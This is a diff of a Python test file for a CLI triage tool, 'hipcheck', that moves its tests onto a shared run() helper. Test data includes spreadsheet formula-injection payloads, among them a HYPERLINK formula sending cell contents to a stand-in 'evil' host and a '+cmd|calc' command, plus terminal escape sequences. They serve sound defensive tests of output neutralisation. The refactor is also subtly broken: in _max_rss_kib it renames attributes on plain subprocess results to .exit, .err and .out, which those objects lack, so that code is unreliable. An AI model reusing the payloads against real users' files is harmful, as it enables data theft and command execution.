@@ -22,7 +22,7 @@ from hipcheck.core.scoring import features, score
 from hipcheck.knowledge import KnowledgeBase
 from hipcheck.knowledge.when import Match, _holds_match, compile_when
 
-from .helpers import BIN
+from .helpers import BIN, Result, run
 from .strategies import KB, answers
 
 LINES = [
@@ -80,15 +80,9 @@ def test_csv_in_csv_out(run: Any, tmp_path: Path) -> None:
 
 def test_stdin_and_all_good_exit_zero(tmp_path: Path) -> None:
     data = "".join(json.dumps(r) + "\n" for r in LINES[:2])
-    res = subprocess.run(
-        [str(BIN / "hipcheck"), "batch", "-"],
-        input=data,
-        capture_output=True,
-        text=True,
-        timeout=30,
-    )
-    assert res.returncode == 0 and res.stderr == ""
-    assert len(res.stdout.splitlines()) == 2
+    res = run("batch", "-", stdin=data)
+    assert res.exit == 0 and res.err == ""
+    assert len(res.out.splitlines()) == 2
 
 
 def test_usage_errors_exit_2(run: Any, tmp_path: Path) -> None:
@@ -113,6 +107,7 @@ def test_usage_errors_exit_2(run: Any, tmp_path: Path) -> None:
     assert res.exit == 2 and existing.read_text() == "keep"
 
 
+@pytest.mark.needs_process  # a real pseudo-terminal on stderr
 def test_progress_bar_on_a_terminal_keeps_the_file_clean(tmp_path: Path) -> None:
     src = write_jsonl(tmp_path / "in.jsonl", LINES[:2] * 2000)
     out = tmp_path / "out.jsonl"
@@ -133,12 +128,12 @@ def _max_rss_kib(args: list[str]) -> int:
     code = textwrap.dedent(f"""
         import resource, subprocess, sys
         r = subprocess.run({args!r}, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
-        assert r.returncode == 0, r.stderr[-500:]
+        assert r.exit == 0, r.err[-500:]
         print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
     """)
     res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
-    assert res.returncode == 0, res.stderr
-    return int(res.stdout)
+    assert res.exit == 0, res.err
+    return int(res.out)
 
 
 def _generate(path: Path, n: int) -> Path:
@@ -161,6 +156,7 @@ def _generate(path: Path, n: int) -> Path:
 
 
 @pytest.mark.slow
+@pytest.mark.needs_process  # the peak memory of a process of its own
 def test_memory_stays_flat_over_200000_lines(tmp_path: Path) -> None:
     small = _generate(tmp_path / "small.jsonl", 2_000)
     big = _generate(tmp_path / "big.jsonl", 200_000)
@@ -173,14 +169,8 @@ def test_memory_stays_flat_over_200000_lines(tmp_path: Path) -> None:
 # --- reliability review F3, F9, F10, F19 ----------------------------------------
 
 
-def hipcheck(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
-    return subprocess.run(
-        [str(BIN / "hipcheck"), *args], input=stdin, capture_output=True, timeout=60
-    )
-
-
-def jsonl_out(res: subprocess.CompletedProcess[bytes]) -> list[dict[str, Any]]:
-    return [json.loads(line) for line in res.stdout.decode().splitlines()]
+def jsonl_out(res: Result) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in res.out.splitlines()]
 
 
 def test_csv_header_with_a_question_twice_is_refused(tmp_path: Path) -> None:
@@ -188,10 +178,10 @@ def test_csv_header_with_a_question_twice_is_refused(tmp_path: Path) -> None:
     for header in ("id,fever,fever", "id,fever,Fever", "id,id,fever"):
         src = tmp_path / "dup.csv"
         src.write_text(f"{header}\nr1,yes,no\n")
-        res = hipcheck("batch", str(src), "--format", "csv")
+        res = run("batch", str(src), "--format", "csv")
         key = "id" if header.count("id") == 2 else "fever"
-        assert res.returncode == 2 and res.stdout == b"", res.stderr
-        assert res.stderr.decode() == (
+        assert res.exit == 2 and res.out == "", res.err
+        assert res.err == (
             f"hipcheck: CSV header: '{key}' is given twice; give each question once\n"
         )
 
@@ -204,7 +194,7 @@ def test_jsonl_key_given_twice_is_an_error_record(tmp_path: Path) -> None:
         b'{"id": "r3", "fev\\u0065r": true, "fever": false}\n'  # nor is it hidden by escapes
         b'{"id": "r4", "fever": null, "severity": 3}\n'
     )
-    docs = jsonl_out(hipcheck("batch", str(src)))
+    docs = jsonl_out(run("batch", str(src)))
     assert docs[0] == {
         "id": "r1",
         "line": 1,
@@ -224,8 +214,8 @@ def test_bad_lines_become_error_records_and_the_run_goes_on(tmp_path: Path) -> N
         b'{"id": "' + b"a" * (1024 * 1024 + 10) + b'"}\n'  # longer than the line limit
         b'{"id": "good", "severity": 4}\n'
     )
-    res = hipcheck("batch", str(src), "-o", str(out))
-    assert res.returncode == 1 and b"Traceback" not in res.stderr
+    res = run("batch", str(src), "-o", str(out))
+    assert res.exit == 1 and "Traceback" not in res.err
     docs = [json.loads(line) for line in out.read_text().splitlines()]
     assert [d["line"] for d in docs] == [1, 2, 3, 4]
     assert "not valid JSON" in docs[0]["error"] and "not valid JSON" in docs[1]["error"]
@@ -233,8 +223,8 @@ def test_bad_lines_become_error_records_and_the_run_goes_on(tmp_path: Path) -> N
     assert docs[3]["id"] == "good" and "triage" in docs[3]
 
 
-def csv_rows(res: subprocess.CompletedProcess[bytes]) -> list[dict[str, str]]:
-    return list(csv.DictReader(res.stdout.decode().splitlines()))
+def csv_rows(res: Result) -> list[dict[str, str]]:
+    return list(csv.DictReader(res.out.splitlines()))
 
 
 @pytest.mark.parametrize(
@@ -261,32 +251,32 @@ def csv_rows(res: subprocess.CompletedProcess[bytes]) -> list[dict[str, str]]:
 def test_awkward_csv(tmp_path: Path, data: bytes, expected: list[tuple[str, str]]) -> None:
     src = tmp_path / "in.csv"
     src.write_bytes(data)
-    res = hipcheck("batch", str(src), "--format", "csv")
-    assert b"Traceback" not in res.stderr and res.returncode in (0, 1), res.stderr
+    res = run("batch", str(src), "--format", "csv")
+    assert "Traceback" not in res.err and res.exit in (0, 1), res.err
     rows = csv_rows(res)
     got = [(r["id"], "error" if r["error"] else r["triage"]) for r in rows]
     assert got == expected
-    assert res.returncode == (1 if any(e == "error" for _, e in expected) else 0)
+    assert res.exit == (1 if any(e == "error" for _, e in expected) else 0)
 
 
 def test_jsonl_with_a_bom_is_read(tmp_path: Path) -> None:
     src = tmp_path / "in.jsonl"
     src.write_bytes(b'\xef\xbb\xbf{"id": "r1", "severity": 4}\n')
-    res = hipcheck("batch", str(src))
-    assert res.returncode == 0 and jsonl_out(res)[0]["id"] == "r1"
+    res = run("batch", str(src))
+    assert res.exit == 0 and jsonl_out(res)[0]["id"] == "r1"
 
 
 def test_csv_on_stdin_gets_a_hint() -> None:
-    res = hipcheck("batch", "-", stdin=b"id,location\nr1,groin\n")
+    res = run("batch", "-", stdin=b"id,location\nr1,groin\n")
     hint = (
-        b"hipcheck: standard input looks like CSV but is read as JSON Lines;"
-        b" give --input-format csv\n"
+        "hipcheck: standard input looks like CSV but is read as JSON Lines;"
+        " give --input-format csv\n"
     )
-    assert res.stderr.startswith(hint)
-    res = hipcheck("batch", "-", "--input-format", "csv", stdin=b"id,location\nr1,groin\n")
-    assert res.returncode == 0 and hint not in res.stderr
-    res = hipcheck("batch", "-", stdin=b'{"id": "a,b", "location": ["groin"]}\n')
-    assert res.returncode == 0 and res.stderr == b""
+    assert res.err.startswith(hint)
+    res = run("batch", "-", "--input-format", "csv", stdin=b"id,location\nr1,groin\n")
+    assert res.exit == 0 and hint not in res.err
+    res = run("batch", "-", stdin=b'{"id": "a,b", "location": ["groin"]}\n')
+    assert res.exit == 0 and res.err == ""
 
 
 IDS = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok"]
@@ -294,7 +284,7 @@ IDS = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc", "-2+3", "@SUM(A1)", "\tx
 
 def test_csv_output_neutralises_formulas_in_ids(tmp_path: Path) -> None:
     src = write_jsonl(tmp_path / "in.jsonl", [{"id": i, "severity": 4} for i in IDS])
-    rows = csv_rows(hipcheck("batch", str(src), "--format", "csv"))
+    rows = csv_rows(run("batch", str(src), "--format", "csv"))
     assert [r["id"] for r in rows] == ["'" + i for i in IDS[:4]] + ["\\u0009x", "\\u000dx", "ok"]
 
 
@@ -308,22 +298,22 @@ def test_control_characters_in_ids_never_reach_the_output_raw(tmp_path: Path) ->
     )
     raw = "".join(chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)] if chr(c) != "\n") + "\u202e"
     for fmt in ("jsonl", "csv"):
-        res = hipcheck("batch", str(src), "--format", fmt)
-        out, err = res.stdout.decode(), res.stderr.decode()
+        res = run("batch", str(src), "--format", fmt)
+        out, err = res.out, res.err
         assert not any(ch in out for ch in raw), (fmt, out[:300])
         assert not any(ch in err for ch in raw), (fmt, err)
-    docs = jsonl_out(hipcheck("batch", str(src)))
+    docs = jsonl_out(run("batch", str(src)))
     assert docs[0]["id"] == ESCAPES  # JSON escapes: the same id once decoded
-    rows = csv_rows(hipcheck("batch", str(src), "--format", "csv"))
+    rows = csv_rows(run("batch", str(src), "--format", "csv"))
     assert rows[0]["id"] == "\\u001b]0;PWNED\\u0007\\u001b[2J\\u009b31m\\u009d\\u202e\\u0000\\u007f"
 
 
 def test_a_bad_csv_header_writes_nothing(tmp_path: Path) -> None:
     src = tmp_path / "bad.csv"
     src.write_bytes(b'"id,severity\nr1,4\n')
-    res = hipcheck("batch", str(src), "--format", "csv")
-    assert res.returncode == 2 and res.stdout == b""
-    assert res.stderr.decode().startswith("hipcheck: CSV header: line 1: ")
+    res = run("batch", str(src), "--format", "csv")
+    assert res.exit == 2 and res.out == ""
+    assert res.err.startswith("hipcheck: CSV header: line 1: ")
 
 
 # --- the speed-ups keep the results (batch throughput, issue 11) ---------------
